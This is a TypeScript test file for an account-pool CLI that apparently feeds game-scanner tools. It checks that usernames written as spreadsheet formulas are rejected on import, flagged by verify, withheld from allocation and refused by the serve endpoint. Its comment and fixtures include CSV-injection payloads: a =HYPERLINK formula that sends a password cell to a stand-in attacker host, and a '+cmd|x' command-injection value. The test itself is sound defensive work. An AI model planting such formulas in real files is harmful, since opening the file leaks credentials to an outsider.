// A seller's dump whose username is a spreadsheet formula must not reach a scanner's accounts
// file: an operator opening accounts.csv in a spreadsheet would run
// `=HYPERLINK("http://evil.example/?"&B2,"...")`, which sends the password in the next cell to
// the seller. The import refuses such a username with file and line (no login starts with `=`,
// `+`, `-` or `@`); passwords starting so are kept exactly. Real processes and files.
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { cli, runCli, startCli, type RunningCli } from '../helpers/cli.js';
import { encodeAccountLine } from '../../src/store/shard-codec.js';
import { shardFile } from '../../src/store/layout.js';
import { fillPool, makeAccount } from '../helpers/accounts.js';
import { makePool } from '../helpers/pool.js';
import { waitFor } from '../helpers/testdir.js';

let running: RunningCli | undefined;
afterEach(async () => {
  running?.kill('SIGTERM');
  await running?.closed;
  running = undefined;
});

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2;"open")', '+cmd|x', '-2+3', '@SUM(1+1)'];

describe('spreadsheet formulas as usernames', () => {
  it('a RocketMap CSV with formula usernames: each refused with file and line, the rest imported, no formula in the accounts file', async () => {
    const pool = await makePool(4);
    const dump = join(pool.base, 'seller.csv');
    await writeFile(dump, [...FORMULAS.map((u, i) => `google,"${u.replace(/"/g, '""')}",pw-${i}`), 'ptc,goodname1,=pw-starts-with-equals', 'ptc,goodname2,-pw-dash'].join('\n') + '\n');
    const r = await runCli(['import', dump, '--level', '30', ...pool.args]);
    // 1, not 0: formula lines rejected: exit 1, the rest imported.
    expect(r.code, r.stderr).toBe(1);
    expect(r.stdout).toContain('2 added, 0 updated, 4 rejected (lines 1, 2, 3, 4)');
    expect(r.stderr).toContain('seller.csv:1: rejected: username starts with =: a spreadsheet opening the accounts file would run it as a formula');
    expect(r.stderr).toContain('seller.csv:4: rejected: username starts with @');
    const out = join(pool.base, 'accounts.csv');
    const alloc = await runCli(['allocate', '--count', '2', '--format', 'monocle', '--accountcsv', out, '--instance', 'east', '--no-check', ...pool.args]);
    expect(alloc.code, alloc.stderr).toBe(0);
    const rows = (await readFile(out, 'utf8')).trim().split('\n').slice(1);
    expect(rows.map((row) => row.split(',')[0]).sort()).toEqual(['goodname1', 'goodname2']);
    expect(rows.map((row) => row.split(',')[1]).sort()).toEqual(['-pw-dash', '=pw-starts-with-equals']);
  });

  // The import refused them, but one already in a shard (typed in by hand, an older version's
  // import, a peer's commit that git merged) went into every scanner's accounts.csv, and verify
  // said nothing. Now it is a name no login can have: named by verify, handed out to no one.
  it('a formula username already in a shard: verify names it by file and line, allocate hands it to no one', async () => {
    const pool = await makePool(1);
    await fillPool(await pool.open(), 2);
    const file = shardFile((await pool.open()).layout, '0');
    const names = ['=A1', '@A1', '-1+2', '+A1', '=a1@gmail.com'];
    await writeFile(file, (await readFile(file, 'utf8')) + names.map((username, i) => `${encodeAccountLine(makeAccount(10 + i, { username, provider: username.includes('@gmail') ? 'google' : 'ptc' }))}\n`).join(''));
    const verify = await cli(['verify', ...pool.args]);
    expect(verify.code).toBe(1);
    for (const name of names) expect(verify.stdout + verify.stderr).toMatch(new RegExp(`shards/0\\.yaml:\\d+: account ${name.replace(/[+]/g, '\\+')}: username starts with \\${name[0]}: a spreadsheet`));
    const out = join(pool.base, 'east.csv');
    const allocated = await cli(['allocate', '--count', '2', '--no-check', '--instance', 'east', '--accountcsv', out, ...pool.args]);
    expect(allocated.code, allocated.stderr).toBe(0);
    const rows = (await readFile(out, 'utf8')).trim().split('\n').slice(1);
    expect(rows.map((row) => row.split(',')[0]).sort()).toEqual(['user000000', 'user000001']);
    // The next instance is given none of them: nothing left that a login can be.
    const next = await cli(['allocate', '--count', '1', '--no-check', '--instance', 'west', '--accountcsv', join(pool.base, 'west.csv'), ...pool.args]);
    expect(next.code).toBe(3);
    expect(next.stderr).toContain('left out 5 accounts named as no login can be');
  });

  it('serve adds no account with a formula username from a post', async () => {
    const pool = await makePool(4);
    running = startCli(['serve', '--port', '0', ...pool.args]);
    let out = '';
    running.stdout!.on('data', (d) => (out += d));
    const url = await waitFor(() => /listening on (http:\/\/127\.0\.0\.1:\d+)/.exec(out)?.[1], { what: 'serve to listen' });
    const post = await fetch(`${url}/account/update`, { method: 'POST', body: JSON.stringify(FORMULAS.map((username) => ({ username, password: 'pw-x', level: 30 }))) });
    expect(await post.text()).toBe('ok');
    expect(await (await fetch(`${url}/account/request?system_id=east&count=10`)).json()).toEqual([]);
    await waitFor(() => /username starts with =/.test(out) || undefined, { what: 'the log line naming the refusal' });
  });
});
